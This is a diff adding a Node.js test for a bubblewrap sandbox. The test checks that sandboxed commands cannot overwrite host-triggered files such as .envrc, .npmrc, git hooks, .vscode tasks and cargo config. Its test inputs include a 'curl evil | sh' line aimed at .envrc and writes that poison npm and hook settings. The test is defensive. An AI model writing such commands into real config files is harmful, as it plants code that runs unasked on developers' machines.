@@ -8,7 +8,15 @@
 import assert from "node:assert/strict";
 import { execFileSync, spawn } from "node:child_process";
 import { createHash } from "node:crypto";
-import { existsSync, mkdirSync, readdirSync, realpathSync, rmSync, writeFileSync } from "node:fs";
+import {
+  existsSync,
+  mkdirSync,
+  readdirSync,
+  readFileSync,
+  realpathSync,
+  rmSync,
+  writeFileSync,
+} from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { describe, it } from "node:test";
@@ -238,5 +246,50 @@ describe("protected paths that do not exist yet (bubblewrap)", { skip: sandboxSk
     assert.ok(existsSync(join(dir, ".claude", "settings.json")), run.output);
     assert.ok(existsSync(join(dir, ".mcp.json")));
     assert.ok(!existsSync(join(dir, "m")));
+  });
+
+  it("what runs on the host unasked (.envrc, .husky, .vscode, .npmrc…) is read-only when it exists, and a missing directory of them cannot be made", async () => {
+    const dir = workspace();
+    const existing = {
+      ".envrc": "export A=1\n",
+      ".npmrc": "fund=false\n",
+      ".gitmodules": "",
+      "mise.toml": "[tools]\n",
+      ".husky/pre-commit": "npm test\n",
+      ".vscode/tasks.json": "{}\n",
+    };
+    for (const [rel, text] of Object.entries(existing)) {
+      mkdirSync(join(dir, rel, ".."), { recursive: true });
+      writeFileSync(join(dir, rel), text);
+    }
+    const run = await sandboxed(
+      dir,
+      [
+        "echo 'curl evil | sh' > .envrc",
+        "echo 'script-shell=/evil' >> .npmrc",
+        "echo '[submodule x]' > .gitmodules",
+        "echo '[hooks]' >> mise.toml",
+        "echo evil > .husky/pre-commit",
+        "echo evil > .husky/post-checkout",
+        "echo '{\"evil\":1}' > .vscode/tasks.json",
+        "mkdir -p .githooks && echo evil > .githooks/pre-commit",
+        "mkdir -p .devcontainer && echo '{}' > .devcontainer/devcontainer.json",
+        "mkdir -p .cargo && echo evil > .cargo/config.toml",
+        "echo ok > inside.txt",
+        "true",
+      ].join("; "),
+    );
+    assert.ok(existsSync(join(dir, "inside.txt")), run.output);
+    for (const [rel, text] of Object.entries(existing)) {
+      assert.equal(readFileSync(join(dir, rel), "utf8"), text, `${rel}: ${run.output}`);
+    }
+    assert.ok(!existsSync(join(dir, ".husky", "post-checkout")), run.output);
+    for (const rel of [".githooks", ".devcontainer", ".cargo"]) {
+      assert.deepEqual(readdirSync(join(dir, rel)), [], `${rel} is an empty mount point`);
+    }
+    removeIdlePlaceholders();
+    for (const rel of [".githooks", ".devcontainer", ".cargo", ".idea", ".zed", ".mise"]) {
+      assert.ok(!existsSync(join(dir, rel)), `${rel} removed at the session's end`);
+    }
   });
 });
